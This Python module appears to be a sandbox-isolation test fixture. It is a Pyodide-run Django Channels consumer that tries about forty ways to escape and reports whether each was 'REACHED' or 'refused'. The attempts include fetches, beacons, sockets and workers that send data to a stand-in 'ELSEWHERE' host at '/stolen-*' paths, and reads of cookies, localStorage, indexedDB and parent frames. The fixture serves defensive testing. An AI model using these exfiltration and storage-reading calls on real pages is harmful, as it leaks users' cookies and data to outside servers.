"""What a link may carry: a consumer that tries to reach the site, its reader and a server elsewhere, and says how each
attempt went. Not imported: a test puts its text into a link, with the two addresses in place of ELSEWHERE and SITE.
"""

from __future__ import annotations

import asyncio
import json
import socket
import urllib.request
from collections.abc import Awaitable, Callable
from typing import Any

import js
from channels.generic.websocket import AsyncWebsocketConsumer
from django.urls import path
from pyodide.code import run_js
from pyodide.ffi import create_proxy, to_js
from pyodide.http import open_url, pyfetch

ELSEWHERE = "http://elsewhere"
SITE = "http://site"
SECONDS = 30
"""After which an attempt counts as refused: nothing came of it. In a worker of its own, that holds for each attempt."""


NESTED = """
const told = {};
const nothing = () => new Promise((_, reject) => setTimeout(reject, SECONDS * 1000, "nothing came of it"));
const attempt = async (name, act) => {
  try { told[name] = "REACHED " + await Promise.race([act(), nothing()]); }
  catch (error) { told[name] = "refused: " + error; }
};
(async () => {
  await attempt("fetch", () => fetch("ELSEWHERE/stolen-nested-fetch", { mode: "no-cors" }));
  await attempt("import", () => import("ELSEWHERE/stolen-nested-import"));
  await attempt("importScripts", () => importScripts("ELSEWHERE/stolen-nested-script"));
  await attempt("importScripts of the site", () => importScripts("SITE/stolen-nested-script"));
  await attempt("data: script", () => importScripts("data:text/javascript,self.reached=1"));
  await attempt("eval", () => (0, eval)("1"));
  await attempt("caches", () => caches.open("stolen"));
  await attempt("worker", () => new Promise((resolve, reject) => {
    const worker = new Worker("data:text/javascript,postMessage(1)");
    worker.onmessage = resolve; worker.onerror = () => reject("error");
  }));
  postMessage(JSON.stringify(told));
})();
"""


def options(**values: Any) -> Any:
    return to_js(values, dict_converter=js.Object.fromEntries)


async def one_of(target: Any, good: str, bad: str, value: Callable[[Any], Any] = lambda event: event.type) -> Any:
    """What the good event says; the bad one is an error."""
    future: asyncio.Future[Any] = asyncio.get_running_loop().create_future()

    def hear(event: Any) -> None:
        if not future.done():
            if event.type == bad:
                future.set_exception(OSError(f"{bad}: {getattr(event, 'message', '')}"))
            else:
                future.set_result(value(event))

    for kind in (good, bad):
        target.addEventListener(kind, create_proxy(hear))
    return await future


async def nested() -> Any:
    source = NESTED.replace("ELSEWHERE", ELSEWHERE).replace("SITE", SITE).replace("SECONDS", str(SECONDS))
    blob = js.Blob.new(to_js([source]), options(type="text/javascript"))
    worker = js.Worker.new(js.URL.createObjectURL(blob))
    return json.loads(await one_of(worker, "message", "error", lambda event: event.data))


async def xhr(url: str) -> Any:
    request = js.XMLHttpRequest.new()
    request.open("GET", url, False)
    request.withCredentials = True
    request.send()
    return request.status


async def database() -> Any:
    return await one_of(js.indexedDB.open("stolen"), "success", "error")


async def font() -> Any:
    return await js.FontFace.new("stolen", f"url({ELSEWHERE}/stolen-font)").load()


async def of_page(name: str) -> Any:
    """A name that a page's JavaScript has; undefined is as good as missing."""
    value = getattr(js, name)
    if value is None:
        raise AttributeError(name)
    return value


async def navigate() -> Any:
    js.location.href = f"{ELSEWHERE}/stolen-navigation"
    raise OSError("nothing happened")


async def broadcast() -> Any:
    js.BroadcastChannel.new("stolen").postMessage("stolen")
    js.postMessage("stolen")
    raise OSError("sent, and whoever heard it says so elsewhere")


async def in_python(act: Callable[[], Any]) -> Any:
    return act()


ATTEMPTS: dict[str, Callable[[], Awaitable[Any]]] = {
    "fetch of the site": lambda: js.fetch(f"{SITE}/stolen-fetch", options(credentials="include")),
    "fetch of a file of the server here": lambda: js.fetch(f"{SITE}/assets/here/manifest.json"),
    "fetch elsewhere": lambda: js.fetch(f"{ELSEWHERE}/stolen-fetch", options(mode="no-cors")),
    "the browser's own fetch": lambda: js.WorkerGlobalScope.prototype.fetch.call(js.self, f"{ELSEWHERE}/stolen-own"),
    "POST elsewhere": lambda: js.fetch(f"{ELSEWHERE}/stolen-post", options(method="POST", body="x", keepalive=True)),
    "XMLHttpRequest of the site": lambda: xhr(f"{SITE}/stolen-xhr"),
    "XMLHttpRequest elsewhere": lambda: xhr(f"{ELSEWHERE}/stolen-xhr"),
    "WebSocket to the site": lambda: one_of(
        js.WebSocket.new(f"{SITE.replace('http', 'ws')}/stolen-socket"), "open", "error"
    ),
    "WebSocket elsewhere": lambda: one_of(
        js.WebSocket.new(f"{ELSEWHERE.replace('http', 'ws')}/stolen-socket"), "open", "error"
    ),
    "EventSource": lambda: one_of(js.EventSource.new(f"{ELSEWHERE}/stolen-events"), "open", "error"),
    "WebTransport": lambda: js.WebTransport.new(f"{ELSEWHERE.replace('http', 'https')}/stolen-transport").ready,
    "sendBeacon": lambda: in_python(lambda: js.navigator.sendBeacon(f"{ELSEWHERE}/stolen-beacon", "x")),
    "importScripts": lambda: in_python(
        lambda: js.WorkerGlobalScope.prototype.importScripts.call(js.self, f"{ELSEWHERE}/stolen-script")
    ),
    "a worker of the site": lambda: one_of(
        js.Worker.new(f"{SITE}/assets/live/here/isolated.js?stolen-worker"), "message", "error"
    ),
    "a worker from elsewhere": lambda: one_of(js.Worker.new(f"{ELSEWHERE}/stolen-worker"), "message", "error"),
    "a shared worker": lambda: in_python(lambda: js.SharedWorker.new(f"{SITE}/stolen-shared")),
    "a worker of its own": nested,
    "a font": font,
    "eval": lambda: in_python(lambda: run_js("1")),
    "document.cookie": lambda: in_python(lambda: js.document.cookie),
    "cookieStore": lambda: in_python(lambda: js.cookieStore.getAll()),
    "localStorage": lambda: of_page("localStorage"),
    "sessionStorage": lambda: of_page("sessionStorage"),
    "indexedDB": database,
    "caches": lambda: js.caches.open("stolen"),
    "files of the site": lambda: js.navigator.storage.getDirectory(),
    "service worker": lambda: js.navigator.serviceWorker.getRegistrations(),
    "parent": lambda: of_page("parent"),
    "top": lambda: of_page("top"),
    "opener": lambda: of_page("opener"),
    "window.open": lambda: in_python(lambda: js.open(f"{ELSEWHERE}/stolen-window")),
    "a navigation": navigate,
    "messages to others": broadcast,
    "pyfetch": lambda: pyfetch(f"{ELSEWHERE}/stolen-pyfetch"),
    "open_url": lambda: in_python(lambda: open_url(f"{ELSEWHERE}/stolen-open-url")),
    "urllib": lambda: in_python(lambda: urllib.request.urlopen(f"{ELSEWHERE}/stolen-urllib")),
    "a socket": lambda: in_python(
        lambda: socket.create_connection(("127.0.0.1", int(ELSEWHERE.rsplit(":", 1)[1])), 1).send(b"stolen")
    ),
}


async def outcome(attempt: Callable[[], Awaitable[Any]]) -> Any:
    try:
        came = await asyncio.wait_for(attempt(), SECONDS * 10 if attempt is nested else SECONDS)
    except BaseException as error:
        return f"refused: {type(error).__name__}: {error}"
    return came if isinstance(came, dict) else f"REACHED {came}"


class EchoConsumer(AsyncWebsocketConsumer):
    async def receive(self, text_data: str | None = None, bytes_data: bytes | None = None) -> None:
        if text_data != "try":
            return await self.send(f"stolen {text_data}")
        came = await asyncio.gather(*map(outcome, ATTEMPTS.values()))
        await self.send(json.dumps(dict(zip(ATTEMPTS, came, strict=True))))
        return None


websocket_urlpatterns = [path("ws/echo/", EchoConsumer.as_asgi())]
